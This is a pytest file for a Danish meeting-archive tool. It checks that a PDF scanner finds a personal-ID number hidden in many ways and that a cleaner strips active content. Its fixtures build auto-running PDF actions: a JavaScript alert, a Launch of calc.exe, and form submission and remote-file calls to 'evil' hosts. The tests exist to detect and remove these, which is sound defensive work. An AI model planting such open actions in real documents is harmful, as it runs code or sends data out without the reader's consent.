"""A PDF is read object by object: a number that some program shows is seen wherever it stands, or the part is named."""

import io
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from attachments_made import pdf
from conftest import ROOT, TOWN
from meeting_archive.personal_data import Kind, sightings
from meeting_archive.personal_data.cleaning import cleaned
from meeting_archive.personal_data.reading import Found, Hidden, ReadText, Running, Unread, passages
from meeting_archive.personal_data.reading.found import UnreadError

OUTSIDE = sorted((ROOT / "tests" / "outside" / "safety").glob("*.pdf"))
SERIAL = "1234"
NUMBER = f"010203-{SERIAL}"


def is_seen(found: list[Found]) -> bool:
    kinds = {s.kind for one in found if isinstance(one, ReadText) for s in sightings(one.text, markup=False)}
    return Kind.CPR in kinds


def is_named(found: list[Found]) -> bool:
    return any(isinstance(one, Unread) and not one.minor for one in found)


@pytest.mark.parametrize("path", OUTSIDE, ids=lambda path: path.stem)
def test_a_number_where_some_program_reads_it_is_seen_or_the_part_is_named(path: Path) -> None:
    found = [*passages(path)]
    assert is_seen(found) or is_named(found)


def test_an_earlier_edition_is_an_error_until_somebody_has_looked() -> None:
    (path,) = [path for path in OUTSIDE if path.stem == "old-revision"]
    assert any(isinstance(one, Unread) and not one.minor and "tidligere udgave" in one.place for one in passages(path))


def letter(path: Path) -> Path:
    """Write an ordinary letter of two pages: text, a link, a table, an outline, properties, a picture in the head."""
    paper = FPDF()
    paper.set_title("Et brev")
    paper.set_author("Kontoret")
    paper.set_lang("da")
    for number in (1, 2):
        paper.add_page()
        paper.set_font("helvetica", size=12)
        paper.start_section(f"Afsnit {number}")
        paper.multi_cell(0, text="Havnen og det, der er sket med den i det år, er på dagsordenen til mødet den 3. maj.")
        paper.ln()
        paper.cell(text="Se her", link="https://nordby.example/")
        with paper.table() as table:
            for row in (("Post", "2030", "2031"), ("Broer", "1.200", "1.250")):
                table.row(row)
    paper.output(str(path))
    return path


def test_an_ordinary_letter_is_read_whole(tmp_path: Path) -> None:
    found = [*passages(letter(tmp_path / "brev.pdf"))]
    assert not is_named(found)
    assert not [one for one in found if isinstance(one, Running) or (isinstance(one, Hidden) and not one.minor)]
    for path in TOWN.glob("meetings/*/*/*.pdf"):
        assert not is_named([*passages(path)]), path


def places(writer: PdfWriter) -> Iterator[Callable[[], None]]:
    """Yield what puts the number into each text and stream of a file, one at a time."""
    for holder in list(writer._objects):  # noqa: SLF001  the only list of all of them
        for value in _within(holder):
            if isinstance(value, DictionaryObject):
                yield lambda value=value: value.__setitem__(NameObject("/Opdigtet"), TextStringObject(NUMBER))
            pairs = dict.items(value) if isinstance(value, DictionaryObject) else enumerate(list.__iter__(value))
            for key, one in list(pairs):
                if isinstance(one, TextStringObject):
                    yield lambda value=value, key=key: value.__setitem__(key, TextStringObject(NUMBER))
            if hasattr(value, "set_data") and any(sign in value.get_data() for sign in (b" Tj", b" TJ", b"<x")):
                yield lambda value=value: value.set_data(_with_number(value.get_data()))


def _within(value: object) -> Iterator[DictionaryObject | ArrayObject]:
    if isinstance(value, DictionaryObject | ArrayObject):
        yield value
        for one in list(dict.values(value) if isinstance(value, DictionaryObject) else list.__iter__(value)):
            yield from _within(one)


def _with_number(data: bytes) -> bytes:
    if data[:1] == b"<":
        return data.replace(b">", b">" + NUMBER.encode(), 1)
    return data + f"\nBT ({NUMBER}) Tj ET".encode()


def test_there_is_no_text_of_a_file_where_a_number_is_not_seen(tmp_path: Path) -> None:
    source = pdf(tmp_path / "a.pdf", "Et", "To", metadata="Om", note="En note", enclosed="tre")
    for file in (source, letter(tmp_path / "b.pdf")):
        count = len([*places(PdfWriter(clone_from=PdfReader(file)))])
        assert count > 20
        for at in range(count):
            writer = PdfWriter(clone_from=PdfReader(file))
            [*places(writer)][at]()
            changed = tmp_path / "aendret.pdf"
            with changed.open("wb") as stream:
                writer.write(stream)
            found = [*passages(changed)]
            assert is_seen(found) or is_named(found), (file.name, at)


def with_page(drawn: str, **more: object) -> PdfWriter:
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    font = {"/Type": NameObject("/Font"), "/Subtype": NameObject("/Type1"), "/BaseFont": NameObject("/Helvetica")}
    fonts = DictionaryObject({NameObject("/F1"): DictionaryObject({NameObject(k): v for k, v in font.items()})})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    stream = DecodedStreamObject()
    stream.set_data(drawn.encode("latin-1"))
    page[NameObject("/Contents")] = stream
    for key, value in more.items():
        page[NameObject(f"/{key}")] = value
    return writer


def saved(writer: PdfWriter, path: Path) -> list[Found]:
    with path.open("wb") as stream:
        writer.write(stream)
    return [*passages(path)]


DRAWN = {
    "letter-by-letter": "".join(
        f"BT /F1 12 Tf {50 + at * 7} 700 Td ({sign}) Tj ET\n" for at, sign in enumerate(NUMBER)
    ),
    "one-array": f"BT /F1 12 Tf 50 700 Td [(0102) -20 (03) 5 (-) 0 ({SERIAL})] TJ ET",
    "hexadecimal": f"BT /F1 12 Tf 50 700 Td <{NUMBER.encode().hex()}> Tj ET",
    "invisible": f"BT /F1 12 Tf 3 Tr 50 700 Td ({NUMBER}) Tj ET",
    "white": f"1 1 1 rg BT /F1 12 Tf 50 700 Td ({NUMBER}) Tj ET",
    "off-the-page": f"BT /F1 12 Tf 5000 7000 Td ({NUMBER}) Tj ET",
    "clipped": f"0 0 1 1 re W n BT /F1 12 Tf 50 700 Td ({NUMBER}) Tj ET",
    "turned": f"BT /F1 12 Tf 0 1 -1 0 50 700 Tm ({NUMBER}) Tj ET",
    "quote-operator": f"BT /F1 12 Tf 50 700 Td ({NUMBER}) ' ET",
    "octal": "BT /F1 12 Tf 50 700 Td (" + "".join(f"\\{ord(sign):03o}" for sign in NUMBER) + ") Tj ET",
    "alternative-text": f"/Span << /Alt ({NUMBER}) >> BDC BT /F1 12 Tf (x) Tj ET EMC",
    "a-remark": f"BT /F1 12 Tf (x) Tj ET % {NUMBER}",
    "moved-back": f"BT /F1 12 Tf 50 700 Td [({SERIAL}) 6000 (010203-)] TJ ET",
    "read-aloud-in-pieces": "".join(f"/Span << /ActualText ({one}) >> BDC (x) Tj EMC " for one in ("010203-", SERIAL)),
    "touching-before": f"BT /F1 12 Tf 50 700 Td (5000) Tj 28 0 Td ({NUMBER}) Tj ET",
}


@pytest.mark.parametrize("case", DRAWN)
def test_a_number_is_seen_however_it_is_drawn(case: str, tmp_path: Path) -> None:
    assert is_seen(saved(with_page(DRAWN[case]), tmp_path / "a.pdf"))


def _action(kind: str, **more: object) -> DictionaryObject:
    said = {"/S": NameObject(f"/{kind}")} | {f"/{key}": value for key, value in more.items()}
    return DictionaryObject({NameObject(key): value for key, value in said.items()})


RUNNING = {
    "JavaScript": _action("JavaScript", JS=TextStringObject("app.alert(1)")),
    "Launch": _action("Launch", F=TextStringObject("calc.exe")),
    "SubmitForm": _action("SubmitForm", F=TextStringObject("https://evil.example/")),
    "ImportData": _action("ImportData", F=TextStringObject("x.fdf")),
    "GoToR": _action("GoToR", F=TextStringObject("//evil/x.pdf"), D=ArrayObject([NumberObject(0), NameObject("/Fit")])),
}


@pytest.mark.parametrize("kind", RUNNING)
def test_what_runs_or_calls_is_told_and_taken_out_of_a_clean_copy(kind: str, tmp_path: Path) -> None:
    writer = with_page("BT /F1 12 Tf 50 700 Td (Et) Tj ET")
    writer.root_object[NameObject("/OpenAction")] = RUNNING[kind]
    path = tmp_path / "a.pdf"
    assert [one for one in saved(writer, path) if isinstance(one, Running)]
    copy = cleaned(path)
    (tmp_path / "b.pdf").write_bytes(copy.data)
    assert not [one for one in passages(tmp_path / "b.pdf") if isinstance(one, Running)]
    assert "noget, der kører, når filen åbnes" in copy.taken


def test_a_link_to_the_web_neither_runs_nor_calls(tmp_path: Path) -> None:
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 99, 99)]),
            NameObject("/A"): _action("URI", URI=TextStringObject("https://nordby.example/")),
        }
    )
    found = saved(with_page("BT /F1 12 Tf 50 700 Td (Et) Tj ET", Annots=ArrayObject([link])), tmp_path / "a.pdf")
    assert not [one for one in found if isinstance(one, Running | Hidden)]


def test_a_clean_copy_has_the_text_and_none_of_the_rest(tmp_path: Path) -> None:
    path = pdf(tmp_path / "a.pdf", "Et", "To", metadata="Om Karla", note="En note", enclosed="trekant")
    copy = cleaned(path)
    assert {"filens egenskaber", "kommentarer og vedhæftninger på siderne", "indlejrede filer"} <= {*copy.taken}
    reader = PdfReader(io.BytesIO(copy.data))
    assert [page.extract_text().strip() for page in reader.pages] == ["Et", "To"]
    for word in (b"Karla", b"En note", b"trekant"):
        assert word not in copy.data
    assert copy.left == ()


def test_a_locked_file_is_not_cleaned(tmp_path: Path) -> None:
    with pytest.raises(UnreadError, match="låst"):
        cleaned(pdf(tmp_path / "a.pdf", "Et", password="x"))  # noqa: S106  a test's


def test_what_a_file_no_longer_leads_to_is_read(tmp_path: Path) -> None:
    path = pdf(tmp_path / "a.pdf", "Et")
    data = path.read_bytes()
    path.write_bytes(data + f"\n99 0 obj\n<< /Gammel ({NUMBER}) >>\nendobj\n".encode())
    assert is_seen([*passages(path)])
    path.write_bytes(data + f"\n% {NUMBER}\n".encode())
    assert is_seen([*passages(path)])


def test_a_number_that_goes_over_the_edge_of_a_page_is_seen(tmp_path: Path) -> None:
    writer = with_page("BT /F1 12 Tf 50 70 Td (Sagen om 010203-) Tj ET")
    writer.append(io.BytesIO(_bytes_of(with_page(f"BT /F1 12 Tf 50 700 Td ({SERIAL} og mere) Tj ET"))))
    assert is_seen(saved(writer, tmp_path / "a.pdf"))


def _bytes_of(writer: PdfWriter) -> bytes:
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def test_what_no_program_is_led_to_is_read(tmp_path: Path) -> None:
    data = pdf(tmp_path / "a.pdf", "Et").read_bytes()
    written = tmp_path / "b.pdf"
    for changed in (
        data.replace(b"trailer\n<<", b"trailer\n<< /Note (" + NUMBER.encode() + b")"),
        data.replace(b"\nendstream", b"\n" + NUMBER.encode() + b"\nendstream", 1),
        data.replace(b"\nxref", b"\n" + NUMBER.encode() + b"\nxref", 1),
    ):
        assert changed != data
        written.write_bytes(changed)
        assert is_seen([*passages(written)])


def _font(**more: object) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/Type"): NameObject("/Font")} | {NameObject(f"/{k}"): v for k, v in more.items()}
    )


def _lettered(*names: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/Differences"): ArrayObject([NumberObject(65), *map(NameObject, names)])})


FONTS = {
    "numbered-letters": _font(Subtype=NameObject("/Type1"), Encoding=_lettered("/g1", "/g2", "/g3", "/g4")),
    "drawn-letters": _font(Subtype=NameObject("/Type3"), Encoding=_lettered("/a", "/b", "/c", "/d")),
    "its-own-signs": _font(
        Subtype=NameObject("/TrueType"),
        FontDescriptor=DictionaryObject(
            {NameObject("/Flags"): NumberObject(4), NameObject("/FontFile2"): DecodedStreamObject()}
        ),
    ),
}


@pytest.mark.parametrize("case", FONTS)
def test_a_font_that_does_not_tell_its_letters_is_named_though_the_page_is_in_another(
    case: str, tmp_path: Path
) -> None:
    prose = "Det er en sag om at der er det i den for de og som har en vej til at "
    writer = with_page(f"BT /F1 12 Tf 50 700 Td ({prose * 5}) Tj /F2 12 Tf (ABACADABCDB) Tj ET")
    writer.pages[0]["/Resources"]["/Font"][NameObject("/F2")] = FONTS[case]
    assert is_named(saved(writer, tmp_path / "a.pdf"))


def test_where_a_file_opens_stays_in_a_clean_copy(tmp_path: Path) -> None:
    path = letter(tmp_path / "a.pdf")
    writer = PdfWriter(clone_from=path)
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([NumberObject(1), NameObject("/Fit")])
    path.write_bytes(_bytes_of(writer))
    result = cleaned(path)
    assert "/OpenAction" in PdfReader(io.BytesIO(result.data)).trailer["/Root"]
    assert not any("kører" in taken for taken in result.taken)
